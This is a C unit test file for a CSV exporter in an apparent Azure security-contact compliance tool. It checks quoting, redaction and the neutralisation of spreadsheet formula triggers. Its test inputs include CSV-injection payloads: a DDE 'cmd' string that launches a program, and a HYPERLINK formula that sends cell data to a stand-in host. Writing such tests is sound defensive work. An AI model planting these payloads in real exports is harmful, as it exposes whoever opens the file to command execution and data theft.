/* SPDX-License-Identifier: ISC */
/* Unit tests for csv.c: RFC 4180 quoting, formula neutralisation of every
 * trigger (addresses whose local part starts with '=' or '+' included),
 * and the rows of a rendered table. */
#include "util.h"

#include <stdlib.h>
#include <string.h>

#include "csv.h"
#include "rules.h"
#include "view.h"

/* The cell csv_quote_cell() writes for text. */
static void assert_cell(const char *text, const char *want)
{
    struct xbuf b = { 0 };
    csv_quote_cell(&b, text);
    char *got = xbuf_finish(&b);
    assert_string_equal(got ? got : "", want);
    free(got);
}

static void test_plain_cells_stay_as_they_are(void **state)
{
    (void)state;
    assert_cell("", "");
    assert_cell("3fd65c5f-c586-49d2-adb2-0b8dc425eaed", "3fd65c5f-c586-49d2-adb2-0b8dc425eaed");
    assert_cell("soc@acme-corp.com", "soc@acme-corp.com");
    assert_cell("a=b+c-d@e", "a=b+c-d@e"); /* a trigger inside a cell is no formula */
    assert_cell("'quoted'", "'quoted'");
}

static void test_rfc4180_quoting(void **state)
{
    (void)state;
    assert_cell("a,b", "\"a,b\"");
    assert_cell("a;b", "\"a;b\"");
    assert_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
    assert_cell("\"", "\"\"\"\"");
    assert_cell("line\nbreak", "\"line\nbreak\"");
    assert_cell("crlf\r\nend", "\"crlf\r\nend\"");
}

static void test_every_formula_trigger_is_neutralised(void **state)
{
    (void)state;
    assert_cell("=1+1", "\"'=1+1\"");
    assert_cell("+1", "\"'+1\"");
    assert_cell("-1", "\"'-1\"");
    assert_cell("@SUM(A1)", "\"'@SUM(A1)\"");
    assert_cell("\tTAB", "\"'\tTAB\"");
    assert_cell("\rCR", "\"'\rCR\"");
    assert_cell("=", "\"'=\"");
    /* a trigger and a quote: neutralised and the quotes doubled */
    assert_cell("=HYPERLINK(\"https://x.example/?\"&A1)",
                "\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\"");
    assert_cell("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"");
}

static void test_addresses_that_start_a_formula(void **state)
{
    (void)state;
    /* RFC 5322 allows '=' and '+' (and '-') to start a local part. */
    assert_cell("=1+1@acme-corp.com", "\"'=1+1@acme-corp.com\"");
    assert_cell("+sum@acme-corp.com", "\"'+sum@acme-corp.com\"");
    assert_cell("-cmd@acme-corp.com", "\"'-cmd@acme-corp.com\"");
    assert_cell("=1+1@acme-corp.com; +sum@acme-corp.com",
                "\"'=1+1@acme-corp.com; +sum@acme-corp.com\"");
}

static const char evidence[] =
    "{\"value\":["
    "{\"id\":\"/subscriptions/a23a4fff-bd90-491f-b422-fd1e97e54303/providers/"
    "Microsoft.Security/securityContacts/default\",\"name\":\"=cmd\","
    "\"properties\":{\"emails\":\"=1+1@acme-corp.com;+sum@acme-corp.com\"}},"
    "{\"id\":\"/subscriptions/70c60ca8-c9ff-4023-9986-d1b935125105/providers/"
    "Microsoft.Security/securityContacts/default\",\"name\":\"default\","
    "\"properties\":{\"emails\":\"\"}}]}";

static void test_rows_of_a_table(void **state)
{
    (void)state;
    struct test_view t;
    test_view_load1(&t, "e/contacts.json", evidence, (1u << RULE_COUNT) - 1, 0);
    char *doc = NULL;
    size_t len = 0;
    assert_int_equal(csv_render(&t.v, &doc, &len), 0);
    assert_int_equal(strlen(doc), len);
    /* a header and one row per subscription and rule, each ended by CRLF */
    size_t rows = 0;
    for (const char *p = doc; (p = strstr(p, "\r\n")) != NULL; p += 2)
        rows++;
    assert_int_equal(rows, 1 + 2 * RULE_COUNT);
    static const char header[] = "subscription_id,display_name,rule,control_id,edition,verdict,";
    assert_int_equal(strncmp(doc, header, strlen(header)), 0);
    assert_non_null(strstr(doc, "\r\na23a4fff-bd90-491f-b422-fd1e97e54303,,contact-email,2.3.2,"
                                "1.5.0,PASS,2 deliverable addresses in contact '=cmd',\"'=cmd\","
                                "\"'=1+1@acme-corp.com; +sum@acme-corp.com\",e/contacts.json:1:"));
    assert_non_null(strstr(doc, "\r\n70c60ca8-c9ff-4023-9986-d1b935125105,,contact-email,2.3.2,"
                                "1.5.0,FAIL,emails is empty,default,,e/contacts.json:1:"));
    assert_null(strstr(doc, ",=")); /* no cell starts a formula */
    assert_null(strstr(doc, ",+"));
    free(doc);
    test_view_free(&t);
}

static void test_redact_masks_addresses(void **state)
{
    (void)state;
    struct test_view t;
    test_view_load1(&t, "e/contacts.json", evidence, 1u << RULE_CONTACT_EMAIL, 1);
    char *doc = NULL;
    size_t len = 0;
    assert_int_equal(csv_render(&t.v, &doc, &len), 0);
    assert_null(strstr(doc, "1+1@"));
    assert_null(strstr(doc, "sum@"));
    assert_non_null(strstr(doc, "\"'=***@acme-corp.com; +***@acme-corp.com\""));
    free(doc);
    test_view_free(&t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_cells_stay_as_they_are),
        cmocka_unit_test(test_rfc4180_quoting),
        cmocka_unit_test(test_every_formula_trigger_is_neutralised),
        cmocka_unit_test(test_addresses_that_start_a_formula),
        cmocka_unit_test(test_rows_of_a_table),
        cmocka_unit_test(test_redact_masks_addresses),
    };
    return cmocka_run_group_tests_name("csv", tests, NULL, NULL) == 0 ? 0 : 1;
}
